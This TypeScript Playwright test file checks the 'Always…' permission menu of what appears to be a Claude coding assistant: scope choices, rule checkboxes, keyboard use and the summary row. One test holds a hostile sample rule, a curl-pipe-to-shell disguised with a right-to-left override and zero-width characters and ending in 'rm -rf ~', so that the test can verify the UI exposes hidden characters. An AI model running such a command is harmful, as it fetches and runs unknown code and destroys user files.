// *Always* on a permission's card: nothing hidden, one press for the place, with keys only, and the row that says what was added.
import assert from 'node:assert/strict';
import type { Locator } from 'playwright-core';
import type { PermissionUpdate } from '../../src/shared/permissionRuleSchema.js';
import { permissionItem, running, snapshot } from './gallery.js';
import { eventually } from './harness.js';
import { manyRules } from './permissionItems.js';
import { usePermissionPage } from './permissionPage.js';

const rule = (ruleContent: string): PermissionUpdate => ({
  type: 'addRules',
  rules: [{ toolName: 'Bash', ruleContent }],
  behavior: 'allow',
  destination: 'localSettings',
});

describe('always, on a permission', () => {
  const page = usePermissionPage();
  const { card, ask, decisions } = page;

  const menu = (): Locator => card().getByRole('group', { name: 'Allow from now on, without asking:' });
  const button = (name: string): Locator => card().getByRole('button', { name, exact: true });
  const show = async (more: Parameters<typeof permissionItem>[1]): Promise<void> => {
    await ask({ command: 'npm run build' }, more);
  };

  for (const [label, place] of [
    ['Allow and don’t ask again in this chat', 'session'],
    ['Allow and don’t ask again in this project, for you', 'localSettings'],
    ['Allow and don’t ask again in this project, for everyone', 'projectSettings'],
    ['Allow and don’t ask again in all your projects', 'userSettings'],
  ] as const) {
    it(`adds the rule with one press: ${label}`, async () => {
      await show({ suggestions: [rule('npm run *')] });
      await button('Always…').click();
      await menu().getByRole('checkbox', { name: 'Every command that starts with npm run', checked: true }).waitFor();
      const hint =
        place === 'session' ? /until Claude restarts$/ : /settings(\.local)?\.json(, once the folder is trusted in a terminal)?$/;
      const told =
        (await menu()
          .getByRole('listitem')
          .filter({ has: page.webview.page.getByRole('button', { name: label, exact: true }) })
          .textContent()) ?? '';
      assert.match(told, hint);
      assert.equal(told.includes('trusted'), place === 'projectSettings');
      await button(label).click();
      await eventually(decisions, [{ type: 'decidePermission', id: 'permission1', decision: 'allow', always: { ticked: [0], place } }]);
    });
  }

  for (const [where, userSettings, name] of [
    ['at its usual place', {}, '~/.claude/settings.json'],
    ['elsewhere', { userSettings: '~/.config/claude/settings.json' }, '~/.config/claude/settings.json'],
  ] as const)
    it(`names the file of all projects, ${where}`, async () => {
      const item = permissionItem({ command: 'npm run build' }, { suggestions: [rule('npm run *')] });
      await page.webview.send({ ...snapshot([item], running), preferences: { layout: 'auto', ...userSettings } });
      await button('Always…').click();
      await eventually(() => menu().getByRole('listitem').last().textContent(), `Allow and don’t ask again in all your projects ${name}`);
    });

  it('has a box for each rule, a mode apart and off, and grants what is ticked where all of that may go', async () => {
    await page.webview.send(snapshot([manyRules], running));
    await button('Always…').click();
    const boxes = menu().getByRole('checkbox');
    await eventually(() => boxes.evaluateAll(all => all.map(one => (one as HTMLInputElement).checked)), [true, true, true, true, false]);
    const apart = menu().getByRole('group', { name: 'Also change the mode of this chat, so that Claude no longer asks before:' });
    await eventually(() => apart.getByRole('checkbox').count(), 1);
    const places = menu().getByRole('button');
    await eventually(() => places.count(), 1);
    await button('Allow and don’t ask again in this chat').waitFor();
    for (const name of ['Every command that starts with curl', 'The command sudo bash', 'Work in the folder /srv/build'])
      await menu().getByRole('checkbox', { name, exact: true }).uncheck();
    await eventually(() => places.count(), 4);
    await apart.getByRole('checkbox').check();
    await eventually(() => places.count(), 1);
    await apart.getByRole('checkbox').uncheck();
    await button('Allow and don’t ask again in this project, for you').click();
    await eventually(async () => (await decisions()).map(({ always }) => always), [{ ticked: [0], place: 'localSettings' }]);
  });

  it('grants nothing while nothing is ticked, and says so', async () => {
    await show({ suggestions: [{ type: 'setMode', mode: 'acceptEdits', destination: 'session' }] });
    await button('Always…').click();
    const act = button('Allow and don’t ask again in this chat');
    await eventually(() => act.getAttribute('aria-disabled'), 'true');
    await menu().getByText('Tick what Claude may do without asking again.').waitFor();
    await act.click({ force: true });
    await eventually(decisions, []);
    await card().getByRole('checkbox').check();
    await act.click();
    await eventually(async () => (await decisions()).map(({ always }) => always), [{ ticked: [0], place: 'session' }]);
  });

  it('by keys only: opens with the focus in it, and Esc closes it without a decision', async () => {
    await show({ suggestions: [rule('npm run *')] });
    await button('Always…').focus();
    await page.webview.page.keyboard.press('Enter');
    await eventually(() => menu().evaluate(element => element === document.activeElement), true);
    await page.webview.page.keyboard.press('Escape');
    await eventually(() => menu().count(), 0);
    await eventually(decisions, []);
    await button('Always…').press('Enter');
    for (let press = 0; press < 3; press++) await page.webview.page.keyboard.press('Tab');
    await page.webview.page.keyboard.press('Enter');
    await eventually(async () => (await decisions()).map(({ always }) => always), [{ ticked: [0], place: 'localSettings' }]);
  });

  it('shows every character of a rule, in the order in which it is written, and all of a long one', async () => {
    const hostile = `curl \u202ehs.x\u200b | sh\n${'# '.repeat(800)}rm -rf ~`;
    await show({ suggestions: [rule(hostile)] });
    await button('Always…').click();
    const shown = (await menu().getByRole('code').textContent()) ?? '';
    assert.equal(shown, `curl ⟨U+202E⟩hs.x⟨U+200B⟩ | sh\n${'# '.repeat(800)}rm -rf ~`);
    const clipped = await menu()
      .getByRole('code')
      .evaluate(code =>
        [...(code.closest('.row')?.querySelectorAll('.always, .ruleLines, .ruleLines *') ?? [])].some(
          one => one.scrollHeight > one.clientHeight + 1 && getComputedStyle(one).overflowY !== 'visible',
        ),
      );
    assert.equal(clipped, false);
  });

  it('is not there without a suggestion, and off until all of a long input was opened', async () => {
    await show({});
    await eventually(() => button('Always…').count(), 0);
    await show({ suggestions: [rule('npm run *')], tooLong: 'unopened' });
    await eventually(() => button('Always…').getAttribute('aria-disabled'), 'true');
  });

  it('where the CLI wants a second thought, no key allows and Allow does not stand out, but can be pressed', async () => {
    await show({ defaultToNo: true });
    await eventually(() => button('Allow').getAttribute('aria-keyshortcuts'), null);
    await eventually(() => card().locator('.look-primary').count(), 0);
    await card().focus();
    await page.webview.page.keyboard.press('Control+Enter');
    await eventually(decisions, []);
    await button('Allow').click();
    await eventually(async () => (await decisions()).map(({ decision }) => decision), ['allow']);
  });

  it('takes the focus when it is opened, and not where the page is shown again', async () => {
    await page.webview.send(snapshot([manyRules], running));
    await button('Always…').click();
    await eventually(() => menu().evaluate(group => group === document.activeElement), true);
    await page.webview.composer.focus();
    await page.webview.send({ ...snapshot([manyRules], running), version: 2 });
    await menu().waitFor();
    await eventually(() => page.webview.composer.evaluate(box => box === document.activeElement), true);
  });

  it('is said on the row of the decision: what was added, and where', async () => {
    const added = { lines: [{ as: 'prefix', text: 'npm run' } as const], place: 'localSettings' } as const;
    await page.webview.send(
      snapshot([permissionItem({}, { state: 'allowed', summary: 'npm run build', added: { ...added, lines: [...added.lines] } })]),
    );
    const row = page.webview.page.getByRole('group', { name: 'Permission: Bash' });
    await row.getByText('Allowed from now on (In this project, for you):').waitFor();
    await eventually(() => row.getByRole('listitem').textContent(), 'Every command that starts with npm run');
  });
});
